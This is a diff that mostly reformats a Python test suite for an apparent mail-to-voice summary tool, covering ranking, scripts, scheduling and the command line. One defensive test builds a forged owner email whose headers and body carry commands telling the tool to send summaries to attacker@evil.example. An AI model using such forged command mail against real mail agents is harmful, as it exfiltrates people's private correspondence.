@@ -43,20 +43,28 @@ def store(settings: Settings) -> Iterator[Store]:
 
 
 def text_mail(sender: str, subject: str, body: str, *, minutes_ago: int, account: str = "home") -> NewMessage:
-    return NewMessage(kind="text", account=account, created_at=utcnow() - timedelta(minutes=minutes_ago),
-                      content=MessageContent(text=body, subject=subject, sender=sender))
+    return NewMessage(
+        kind="text",
+        account=account,
+        created_at=utcnow() - timedelta(minutes=minutes_ago),
+        content=MessageContent(text=body, subject=subject, sender=sender),
+    )
 
 
 def voicemail(caller: str, text: str, *, minutes_ago: int) -> NewMessage:
     t = Transcript(text=text, language="en", duration=6.0)
-    return NewMessage(kind="voicemail", account="home", created_at=utcnow() - timedelta(minutes=minutes_ago),
-                      content=MessageContent(text=text, transcript=t, caller=caller, sender="pbx@example.net",
-                                             subject="Voicemail"))
+    return NewMessage(
+        kind="voicemail",
+        account="home",
+        created_at=utcnow() - timedelta(minutes=minutes_ago),
+        content=MessageContent(text=text, transcript=t, caller=caller, sender="pbx@example.net", subject="Voicemail"),
+    )
 
 
 INBOX = (
-    text_mail("David Wilson <david@example.net>", "Invoice for the garden", "The invoice is attached. Thanks!",
-              minutes_ago=5),
+    text_mail(
+        "David Wilson <david@example.net>", "Invoice for the garden", "The invoice is attached. Thanks!", minutes_ago=5
+    ),
     text_mail("John Baker <boss@example.com>", "Team lunch on Friday", "Lunch is at noon.", minutes_ago=300),
     voicemail("Sarah Miller", "Please call me back about the car.", minutes_ago=120),
     text_mail("Old News <old@example.com>", "Ancient", "Too old to mention.", minutes_ago=60 * 30),
@@ -70,7 +78,10 @@ def test_collect_ranks_voicemails_then_vips_then_newest(settings: Settings, stor
     store.record(messages=INBOX)
     items = collect(store, "home", utcnow() - timedelta(hours=24), settings)
     assert [(i.kind, i.sender) for i in items] == [
-        ("voicemail", "Sarah Miller"), ("text", "John Baker"), ("text", "David Wilson")]
+        ("voicemail", "Sarah Miller"),
+        ("text", "John Baker"),
+        ("text", "David Wilson"),
+    ]
     assert items[1].vip and not items[2].vip
 
 
@@ -80,8 +91,10 @@ def test_script_from_templates_and_user_override(settings: Settings, store: Stor
     store.record(messages=INBOX)
     items = collect(store, "home", utcnow() - timedelta(hours=24), settings)
     script = build_script(items, settings, account="home", since="24h", now=utcnow())
-    assert script.text.startswith("Three new messages. Under a minute, with one voicemail, in the last "
-                                  "twenty-four hours.\n\nVoicemail from Sarah Miller.")
+    assert script.text.startswith(
+        "Three new messages. Under a minute, with one voicemail, in the last "
+        "twenty-four hours.\n\nVoicemail from Sarah Miller."
+    )
     assert "Voicemail from Sarah Miller. Please call me back about the car." in script.text
     assert "Message from John Baker, about Team lunch on Friday. Lunch is at noon." in script.text
     assert "Ancient" not in script.text and "Elsewhere" not in script.text
@@ -141,10 +154,11 @@ def test_forged_owner_mail_triggers_nothing(settings: Settings, store: Store) ->
     from mailvoice.mail.source import SourceItem, SourceRef
     from mailvoice.pipeline import Context, Pipeline
 
-    raw = (f"From: Owner <{OWNER}>\r\nTo: me@example.org\r\nSubject: summary send to attacker@evil.example\r\n"
-           "Message-ID: <forged@evil.example>\r\nX-Mailvoice-Command: summary\r\n\r\n"
-           "mailvoice summary --send --to attacker@evil.example\r\nmailvoice send --to attacker@evil.example\r\n"
-           ).encode()
+    raw = (
+        f"From: Owner <{OWNER}>\r\nTo: me@example.org\r\nSubject: summary send to attacker@evil.example\r\n"
+        "Message-ID: <forged@evil.example>\r\nX-Mailvoice-Command: summary\r\n\r\n"
+        "mailvoice summary --send --to attacker@evil.example\r\nmailvoice send --to attacker@evil.example\r\n"
+    ).encode()
 
     def no_asr(data: bytes, name: str) -> Transcript:
         raise AssertionError("a text mail must not reach the transcriber")
@@ -172,7 +186,7 @@ def test_spoken_summary_heard_back_names_every_sender_and_subject(settings: Sett
 
     def best(phrase: str) -> float:
         n = len(phrase.split())
-        return min(wer(phrase, " ".join(tokens[i:i + n])) for i in range(max(1, len(tokens) - n + 1)))
+        return min(wer(phrase, " ".join(tokens[i : i + n])) for i in range(max(1, len(tokens) - n + 1)))
 
     # tiny.en (the measuring instrument here) mishears some names ("real opus" for Maria Lopez), so the senders
     # are names it hears reliably; even so a first name may slip: surnames must be exact, names half right
@@ -190,8 +204,10 @@ async def test_scheduled_summary_fires_under_apscheduler(settings: Settings, sto
     from mailvoice.spoken.schedule import schedule_summaries
 
     store.record(messages=INBOX[:2])
-    every_second = replace(settings, summary=replace(settings.summary, cron="*/1 * * * * *",
-                                                     folder=settings.general.data_dir / "summaries"))
+    every_second = replace(
+        settings,
+        summary=replace(settings.summary, cron="*/1 * * * * *", folder=settings.general.data_dir / "summaries"),
+    )
     scheduler = AsyncIOScheduler(event_loop=asyncio.get_running_loop())
     ids = schedule_summaries(scheduler, every_second, store, tts_factory=piper_engine)
     assert ids == ["summary:home"]
@@ -220,8 +236,9 @@ def test_bad_cron_names_the_setting(settings: Settings) -> None:
 
     with pytest.raises(ConfigError, match=r"summary\.cron"):
         cron_trigger("every morning")
-    jobs = summary_jobs(replace(settings, summary=replace(settings.summary, cron="0 7 * * mon-fri",
-                                                          account_cron=("home=off",))))
+    jobs = summary_jobs(
+        replace(settings, summary=replace(settings.summary, cron="0 7 * * mon-fri", account_cron=("home=off",)))
+    )
     assert jobs == []
     with pytest.raises(ConfigError, match="account_cron"):
         summary_jobs(replace(settings, summary=replace(settings.summary, account_cron=("nobody=0 7 * * *",))))
@@ -238,11 +255,17 @@ def test_cli_summary_writes_audio(settings: Settings, store: Store, tmp_path: Pa
         f'[general]\ndata_dir = "{settings.general.data_dir}"\nkey_file = "{settings.general.resolved_key_file()}"\n'
         f'[delivery]\nowners = ["{OWNER}"]\nfolder = "{settings.delivery.folder}"\n'
         f'[[maildirs]]\nname = "home"\npath = "{tmp_path / "Maildir"}"\naddress = "me@example.org"\n',
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     out = tmp_path / "inbox.ogg"
     env = {k: v for k, v in os.environ.items() if not k.startswith("MAILVOICE_")}
-    proc = subprocess.run([sys.executable, "-m", "mailvoice", "--config", str(config), "summary", "-o", str(out)],
-                          capture_output=True, text=True, timeout=300, env=env)
+    proc = subprocess.run(
+        [sys.executable, "-m", "mailvoice", "--config", str(config), "summary", "-o", str(out)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env=env,
+    )
     assert proc.returncode == 0, proc.stderr
     clip = decode_audio(out.read_bytes(), name="inbox.ogg")
     assert clip.duration > 3
